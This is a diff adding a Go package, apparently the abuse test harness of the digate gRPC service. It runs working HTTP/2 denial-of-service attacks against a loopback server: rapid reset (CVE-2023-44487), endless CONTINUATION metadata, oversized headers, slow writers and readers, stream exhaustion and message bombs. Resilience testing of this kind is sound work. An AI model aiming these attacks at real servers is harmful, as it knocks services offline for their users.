@@ -1,0 +1,346 @@
+package abuse
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"google.golang.org/grpc"
+	healthv1 "google.golang.org/grpc/health/grpc_health_v1"
+	"google.golang.org/grpc/mem"
+	"google.golang.org/grpc/metadata"
+	reflectionv1 "google.golang.org/grpc/reflection/grpc_reflection_v1"
+	"google.golang.org/protobuf/proto"
+
+	integrationv1 "github.com/digate/digate/gen/diga/integration/v1"
+)
+
+const (
+	copyMethod       = integrationv1.IntegrationService_CopyTemplate_FullMethodName
+	bulkMethod       = integrationv1.IntegrationService_BulkCopyTemplate_FullMethodName
+	watchMethod      = healthv1.Health_Watch_FullMethodName
+	checkMethod      = healthv1.Health_Check_FullMethodName
+	reflectionMethod = reflectionv1.ServerReflection_ServerReflectionInfo_FullMethodName
+)
+
+// attack is what strangers do to a server.
+type attack struct {
+	name string
+	// many and few are the connections of the long and of the short form; streams and
+	// fewStreams are those of each connection.
+	many, few, streams, fewStreams int
+	// spread means that each connection comes from an address of its own.
+	spread bool
+	// run does it on one connection until the context ends.
+	run func(*front, int)
+}
+
+// front is one connection's part of an attack that is under way.
+type front struct {
+	ctx      context.Context
+	from, to string
+	streams  int
+	done     *atomic.Int64 // streams opened, calls made, or connections
+}
+
+// attacks is the list of docs/abuse.md, in its order.
+var attacks = []attack{
+	{name: "reflection streams, nothing sent", many: 60, few: 4, streams: 1000, fewStreams: 250, run: left(reflectionMethod, false, nil)},
+	{name: "the same from 60 addresses", many: 60, few: 4, streams: 1000, fewStreams: 250, spread: true, run: left(reflectionMethod, false, nil)},
+	{name: "health watches", many: 60, few: 4, streams: 1000, fewStreams: 250, run: left(watchMethod, false, []byte{})},
+	{name: "health checks without a message", many: 60, few: 4, streams: 1000, fewStreams: 250, run: left(checkMethod, false, nil)},
+	{name: "copies without a message, made-up tokens", many: 60, few: 4, streams: 1000, fewStreams: 250, spread: true, run: left(copyMethod, true, nil)},
+	{name: "bulk streams, made-up tokens", many: 60, few: 4, streams: 1000, fewStreams: 250, spread: true, run: left(bulkMethod, true, nil)},
+	{name: "`Struct` bombs of 4 MiB", many: 8, few: 1, streams: 2, fewStreams: 1, run: explode},
+	{name: "rapid reset", many: 10, few: 2, streams: 100, fewStreams: 100, run: rapidReset},
+	{name: "calls without a credential", many: 10, few: 2, streams: 100, fewStreams: 50, run: flood},
+	{name: "metadata of 64 KiB", many: 10, few: 2, streams: 100, fewStreams: 20, run: largeMetadata(64 << 10)},
+	{name: "metadata without an end", many: 10, few: 2, streams: 1, fewStreams: 1, run: endlessMetadata},
+	{name: "a byte of a message at a time", many: 60, few: 4, streams: 100, fewStreams: 25, spread: true, run: slowWriter},
+	{name: "reflection, responses left unread", many: 60, few: 4, streams: 100, fewStreams: 25, spread: true, run: slowReader},
+}
+
+// start begins the attack and returns a function that waits for its end, which is
+// that of the context, and returns how much was done.
+func (a attack) start(ctx context.Context, to string, long bool) (wait func() int64) {
+	connections, streams := a.few, a.fewStreams
+	if long {
+		connections, streams = a.many, a.streams
+	}
+	var (
+		all  sync.WaitGroup
+		done atomic.Int64
+	)
+	for n := range connections {
+		from := "127.0.0.2"
+		if a.spread {
+			from = fmt.Sprintf("127.0.1.%d", n+1)
+		}
+		all.Go(func() {
+			f := &front{ctx: ctx, from: from, to: to, streams: streams, done: &done}
+			a.run(f, n)
+		})
+	}
+	return func() int64 {
+		all.Wait()
+		return done.Load()
+	}
+}
+
+// meeting opens connections, one after the other, and calls do with each until it
+// is closed. A server that refuses connections is left alone for a while.
+func (f *front) meeting(window uint32, do func(*stranger) error) {
+	for f.ctx.Err() == nil {
+		s, err := meet(f.ctx, f.from, f.to, window)
+		if err == nil {
+			if err = do(s); err == nil {
+				select {
+				case <-s.gone:
+				case <-f.ctx.Done():
+				}
+			}
+			_ = s.conn.Close()
+			<-s.gone
+		}
+		f.pause(50 * time.Millisecond)
+	}
+}
+
+// pause lets time pass, or the context end.
+func (f *front) pause(d time.Duration) {
+	select {
+	case <-time.After(d):
+	case <-f.ctx.Done():
+	}
+}
+
+// left opens streams and leaves them. A message that is not nil is sent on each.
+// With tokens, each stream has one of its own, which is made up.
+func left(method string, tokens bool, message []byte) func(*front, int) {
+	return func(f *front, n int) {
+		f.meeting(65535, func(s *stranger) error {
+			for range f.streams {
+				token := ""
+				if tokens {
+					token = fmt.Sprintf("made-up-%d-%d", n, s.next)
+				}
+				if err := s.send(func() error {
+					id, err := s.open(s.header(method, token), false)
+					if err == nil && message != nil {
+						err = s.message(id, false, message)
+					}
+					return err
+				}); err != nil {
+					return err
+				}
+				f.done.Add(1)
+			}
+			return nil
+		})
+	}
+}
+
+// rapidReset opens and resets streams as fast as the connection takes it
+// (CVE-2023-44487).
+func rapidReset(f *front, n int) {
+	token := fmt.Sprintf("made-up-%d", n)
+	f.meeting(65535, func(s *stranger) error {
+		for {
+			if err := s.send(func() error {
+				for range f.streams {
+					id, err := s.open(s.header(copyMethod, token), false)
+					if err != nil {
+						return err
+					}
+					if err := s.framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+						return err
+					}
+				}
+				return nil
+			}); err != nil {
+				return err
+			}
+			f.done.Add(int64(f.streams))
+		}
+	})
+}
+
+// flood makes calls without a credential, so many at a time.
+func flood(f *front, _ int) { f.calls(func(s *stranger) []byte { return s.header(copyMethod, "") }) }
+
+// largeMetadata makes calls with so many bytes of metadata.
+func largeMetadata(size int) func(*front, int) {
+	value := strings.Repeat("~", size)
+	return func(f *front, n int) {
+		token := fmt.Sprintf("made-up-%d", n)
+		f.calls(func(s *stranger) []byte {
+			return s.header(copyMethod, token, hpack.HeaderField{Name: "x-much", Value: value, Sensitive: true})
+		})
+	}
+}
+
+// calls makes complete calls with a header, f.streams at a time.
+func (f *front) calls(header func(*stranger) []byte) {
+	f.meeting(65535, func(s *stranger) error {
+		s.places = make(chan struct{}, f.streams)
+		for {
+			select {
+			case s.places <- struct{}{}:
+			case <-s.gone:
+				return nil
+			}
+			if err := s.send(func() error {
+				id, err := s.openLarge(header(s))
+				if err != nil {
+					return err
+				}
+				return s.message(id, true, nil)
+			}); err != nil {
+				return err
+			}
+			f.done.Add(1)
+		}
+	})
+}
+
+// frameBytes is the largest frame that a server must take.
+const frameBytes = 16 << 10
+
+// openLarge writes the header of the next stream in as many frames as it needs.
+func (s *stranger) openLarge(header []byte) (uint32, error) {
+	id := s.next
+	s.next += 2
+	part, rest := header[:min(len(header), frameBytes)], header[min(len(header), frameBytes):]
+	err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndHeaders: len(rest) == 0})
+	for len(rest) > 0 && err == nil {
+		part, rest = rest[:min(len(rest), frameBytes)], rest[min(len(rest), frameBytes):]
+		err = s.framer.WriteContinuation(id, len(rest) == 0, part)
+	}
+	return id, err
+}
+
+// endlessMetadata sends a header that never ends, in CONTINUATION frames.
+func endlessMetadata(f *front, _ int) {
+	value := strings.Repeat("~", frameBytes-100)
+	f.meeting(65535, func(s *stranger) error {
+		header := bytes.Clone(s.header(copyMethod, "made-up"))
+		s.block.Reset()
+		_ = s.fields.WriteField(hpack.HeaderField{Name: "x-more", Value: value, Sensitive: true})
+		more := s.block.Bytes()
+		id := s.next
+		if err := s.send(func() error {
+			return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header})
+		}); err != nil {
+			return err
+		}
+		for {
+			if err := s.send(func() error { return s.framer.WriteContinuation(id, false, more) }); err != nil {
+				return err
+			}
+			f.done.Add(1)
+		}
+	})
+}
+
+// slowWriter begins messages of 1 MiB, and sends a byte of each twice a second.
+func slowWriter(f *front, n int) {
+	f.meeting(65535, func(s *stranger) error {
+		var ids []uint32
+		for range f.streams {
+			if err := s.send(func() error {
+				id, err := s.open(s.header(copyMethod, fmt.Sprintf("made-up-%d-%d", n, s.next)), false)
+				ids = append(ids, id)
+				if err == nil {
+					err = s.framer.WriteData(id, false, []byte{0, 0, 16, 0, 0})
+				}
+				return err
+			}); err != nil {
+				return err
+			}
+			f.done.Add(1)
+		}
+		for f.ctx.Err() == nil {
+			f.pause(500 * time.Millisecond)
+			if err := s.send(func() error {
+				for _, id := range ids {
+					if err := s.framer.WriteData(id, false, []byte{0}); err != nil {
+						return err
+					}
+				}
+				return nil
+			}); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+}
+
+// slowReader asks for the descriptor of the contract again and again, on streams
+// whose windows stay closed.
+func slowReader(f *front, _ int) {
+	request, _ := proto.Marshal(&reflectionv1.ServerReflectionRequest{MessageRequest: &reflectionv1.ServerReflectionRequest_FileContainingSymbol{
+		FileContainingSymbol: integrationv1.IntegrationService_ServiceDesc.ServiceName,
+	}})
+	f.meeting(0, func(s *stranger) error {
+		for range f.streams {
+			if err := s.send(func() error {
+				id, err := s.open(s.header(reflectionMethod, ""), false)
+				for range 20 {
+					if err == nil {
+						err = s.message(id, false, request)
+					}
+				}
+				return err
+			}); err != nil {
+				return err
+			}
+			f.done.Add(1)
+		}
+		return nil
+	})
+}
+
+// explode sends bombs, f.streams at a time.
+func explode(f *front, n int) {
+	conn, err := dialClient(f.from, f.to)
+	if err != nil {
+		return
+	}
+	defer func() { _ = conn.Close() }()
+	charges := allBombs()
+	var all sync.WaitGroup
+	for m := range f.streams {
+		all.Go(func() {
+			for k := 0; f.ctx.Err() == nil; k++ {
+				ctx := metadata.AppendToOutgoingContext(f.ctx, "authorization", fmt.Sprintf("Bearer made-up-%d-%d", n, m))
+				var ignored []byte
+				f.done.Add(1)
+				_ = conn.Invoke(ctx, copyMethod, charges[k%len(charges)], &ignored, grpc.ForceCodecV2(asIs{}))
+			}
+		})
+	}
+	all.Wait()
+}
+
+var allBombs = sync.OnceValue(bombs)
+
+// asIs is a codec of messages that are encoded already.
+type asIs struct{}
+
+func (asIs) Name() string { return "proto" }
+
+func (asIs) Marshal(v any) (mem.BufferSlice, error) {
+	return mem.BufferSlice{mem.SliceBuffer(v.([]byte))}, nil
+}
+
+func (asIs) Unmarshal(data mem.BufferSlice, v any) error {
+	*v.(*[]byte) = data.Materialize()
+	return nil
+}
